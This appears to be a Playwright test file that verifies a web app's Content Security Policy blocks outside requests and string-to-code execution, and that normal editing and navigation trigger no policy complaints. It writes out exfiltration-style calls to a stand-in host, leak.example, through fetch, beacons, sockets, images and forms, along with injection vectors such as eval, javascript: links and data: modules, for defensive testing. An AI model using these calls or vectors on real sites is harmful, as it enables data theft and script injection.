import type { JSHandle, Page } from '@playwright/test';
import { expect, test } from '../support/launch';

type Act = readonly [name: string, act: () => unknown];

/** What the page's policy says of an act: the directive that refused it. */
async function refusedBy(page: Page, act: () => unknown): Promise<string> {
  const refusal = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const listen = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', listen, { once: true });
        setTimeout(resolve, 2_000, 'nothing refused it');
      }),
  );
  await page.evaluate(act).catch(() => undefined);
  return refusal;
}

test('the policy refuses everything from outside, each kind by its own directive', async ({
  launch,
}) => {
  const { page } = await launch();
  const acts: Readonly<Record<string, readonly Act[]>> = {
    'connect-src': [
      ['fetch', () => void fetch('https://leak.example/a').catch(() => undefined)],
      ['fetch of the app’s own files', () => void fetch('/index.html').catch(() => undefined)],
      [
        'XMLHttpRequest',
        () => {
          const request = new XMLHttpRequest();
          request.open('GET', 'https://leak.example/a');
          request.send();
        },
      ],
      ['sendBeacon', () => navigator.sendBeacon('https://leak.example/a', 'x')],
      ['WebSocket', () => void new WebSocket('wss://leak.example/a')],
      ['EventSource', () => void new EventSource('https://leak.example/a')],
      ['WebTransport', () => void new WebTransport('https://leak.example/a').closed.catch(() => 0)],
    ],
    'img-src': [
      ['image', () => void Object.assign(new Image(), { src: 'https://leak.example/a.png' })],
      [
        'background',
        () => {
          document.body.style.backgroundImage = 'url(https://leak.example/b.png)';
        },
      ],
    ],
    'font-src': [
      [
        'font',
        () => void new FontFace('leak', 'url(https://leak.example/a.woff2)').load().catch(() => 0),
      ],
    ],
    'media-src': [
      ['audio', () => void Object.assign(new Audio(), { src: 'https://leak.example/a.mp3' })],
    ],
    'frame-src': [
      [
        'iframe',
        () =>
          document.body.append(
            Object.assign(document.createElement('iframe'), { src: 'https://leak.example/' }),
          ),
      ],
      [
        'iframe of the app itself',
        () =>
          document.body.append(
            Object.assign(document.createElement('iframe'), { src: '/index.html' }),
          ),
      ],
    ],
    'style-src-elem': [
      [
        'stylesheet',
        () =>
          document.head.append(
            Object.assign(document.createElement('link'), {
              rel: 'stylesheet',
              href: 'https://leak.example/a.css',
            }),
          ),
      ],
      [
        'inline style sheet',
        () =>
          document.head.append(
            Object.assign(document.createElement('style'), { textContent: '*{}' }),
          ),
      ],
    ],
    'style-src-attr': [['style attribute', () => document.body.setAttribute('style', 'color:red')]],
    'base-uri': [
      [
        'base',
        () =>
          document.head.append(
            Object.assign(document.createElement('base'), { href: 'https://leak.example/' }),
          ),
      ],
    ],
    'form-action': [
      [
        'form',
        () => {
          const form = document.createElement('form');
          form.action = 'https://leak.example/';
          document.body.append(form);
          form.submit();
        },
      ],
    ],
    'require-trusted-types-for': [
      [
        'markup from a string',
        () => {
          document.createElement('p').innerHTML = '<b>x</b>';
        },
      ],
      ['a worker from a string', () => void new Worker('./a.js')],
      [
        'a script’s source from a string',
        () => {
          document.createElement('script').src = 'https://leak.example/a.js';
        },
      ],
    ],
    'trusted-types': [
      [
        'a policy of another name',
        () =>
          (
            window as unknown as { trustedTypes: { createPolicy: (n: string, r: object) => void } }
          ).trustedTypes.createPolicy('anything', {}),
      ],
    ],
  };
  // The one string that may become markup: React Aria empties its live region with it.
  await page.getByRole('heading', { level: 1 }).waitFor();
  await page.evaluate(() => {
    document.createElement('div').innerHTML = '';
  });
  for (const [directive, list] of Object.entries(acts)) {
    for (const [name, act] of list) {
      expect.soft(await refusedBy(page, act), name).toBe(directive);
    }
  }
});

/** The act as a function of the page's own. */
const handleOf = (page: Page, act: () => unknown) =>
  page.evaluateHandle(`() => { try { return (${act})(); } catch {} }`) as Promise<
    JSHandle<() => unknown>
  >;

test('no text becomes a program', async ({ launch }) => {
  const { page } = await launch();
  const acts: readonly Act[] = [
    // biome-ignore lint/security/noGlobalEval: what is tested.
    ['eval', () => eval('window.ran = 1')],
    ['new Function', () => new Function('window.ran = 1')()],
    ['setTimeout of a string', () => setTimeout('window.ran = 1' as unknown as () => void)],
    [
      'inline script',
      () => {
        const script = document.createElement('script');
        script.append('window.ran = 1');
        document.body.append(script);
      },
    ],
    [
      'inline handler',
      () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.ran = 1');
        document.body.append(button);
        button.click();
      },
    ],
    [
      'javascript: link',
      () => {
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:void(window.ran = 1)');
        document.body.append(link);
        link.click();
      },
    ],
    [
      'javascript: address',
      () => {
        location.href = 'javascript:void(window.ran = 1)';
      },
    ],
    ['data: module', () => import(/* @vite-ignore */ `data:text/javascript,window.ran${' '}= 1`)],
    [
      'blob: module',
      () =>
        import(
          /* @vite-ignore */ URL.createObjectURL(
            new Blob(['window.ran = 1'], { type: 'text/javascript' }),
          )
        ),
    ],
  ];
  for (const [name, act] of acts) {
    // Later, in a task of the page: what a debugger evaluates at once is let past the policy.
    await page.evaluate((body) => void setTimeout(() => void body()), await handleOf(page, act));
    await page.waitForTimeout(50);
    const ran = await page.evaluate(() => (window as unknown as { ran?: number }).ran);
    expect(ran, name).toBeUndefined();
  }
});

test('ordinary use asks for nothing that the policy refuses', async ({ opened }) => {
  const { page } = opened;
  const complaints: string[] = [];
  page.on('console', (message) => {
    const text = message.text();
    if (/Content Security Policy|Trusted|Permissions.Policy|Refused|Not allowed/i.test(text)) {
      complaints.push(text);
    }
  });
  await page.reload();
  const rail = page.getByRole('navigation', { name: 'Main' });
  await page.getByRole('button', { name: 'New entry' }).first().click();
  const text = page.getByRole('textbox', { name: 'Entry text' });
  await text.click();
  await page.keyboard.type('Rounds went well. ');
  await text.evaluate((target) => {
    const clipboardData = new DataTransfer();
    const html =
      '<p>with <strong>bold words</strong> and <a href="https://example.org">a link</a></p>';
    clipboardData.setData('text/html', html);
    target.dispatchEvent(
      new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }),
    );
  });
  await expect(text.locator('strong')).toHaveText('bold words');
  await expect(text.locator('a')).toHaveAttribute('href', 'https://example.org/');
  for (const link of await rail.getByRole('link').all()) {
    await link.click();
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForTimeout(200);
  }
  expect(complaints).toEqual([]);
});
